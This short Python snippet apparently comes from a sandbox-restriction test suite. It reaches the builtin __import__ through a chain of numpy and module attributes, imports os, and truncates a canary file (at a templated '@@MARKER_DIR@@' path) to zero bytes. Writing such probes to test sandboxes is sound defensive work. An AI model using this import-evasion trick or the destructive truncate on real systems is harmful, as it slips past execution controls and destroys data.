# attempts: os.truncate the canary to 0 bytes (an existing file opened for write: O_TRUNC without O_CREAT)
# effect: file
B = np.random.bit_generator.re.enum.bltns
imp = B.getattr(B, '__import__')
osm = imp('os')
osm.truncate('@@MARKER_DIR@@/../canary.txt', 0)
